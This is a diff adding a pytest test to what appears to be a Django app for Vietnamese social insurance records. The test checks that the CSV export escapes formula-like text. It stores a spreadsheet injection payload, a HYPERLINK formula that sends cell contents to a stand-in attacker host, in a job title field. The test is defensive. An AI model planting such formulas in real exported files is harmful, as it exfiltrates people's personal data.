@@ -155,6 +155,19 @@ def test_csv_export_has_every_period(client, citizen, person):
     assert {(r[0], r[1], r[2]) for r in rows[1:]} == {("BHXH bắt buộc", "01/2010", "12/2012"), ("BHYT", "01/2014", "06/2016")}
 
 
+def test_csv_export_writes_formula_like_text_as_text(client, citizen, person):
+    hostile = '=HYPERLINK("http://ke-gia-mao.example/?"&A2,"Xem")'
+    p = period(person, "01/2010", "12/2012", save=False)
+    p.job_title = hostile
+    p.save()
+    period(person, "01/2014", "06/2016", kind=Period.Kind.BHYT)  # a plain row stays as it was
+    client.force_login(citizen)
+    rows = list(csv.reader(io.StringIO(b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content)
+                                       .decode("utf-8-sig"))))
+    job_titles = {row[0]: row[6] for row in rows[1:]}
+    assert job_titles == {"BHXH bắt buộc": "'" + hostile, "BHYT": ""}
+
+
 def test_pages_show_only_the_logged_in_persons_history(client, citizen, person):
     other = make_person("7902222222", "Lê Thị Hoa", id_number="079190012345", sex=2)
     period(other, "01/2000", "12/2000", base=7_777_000)
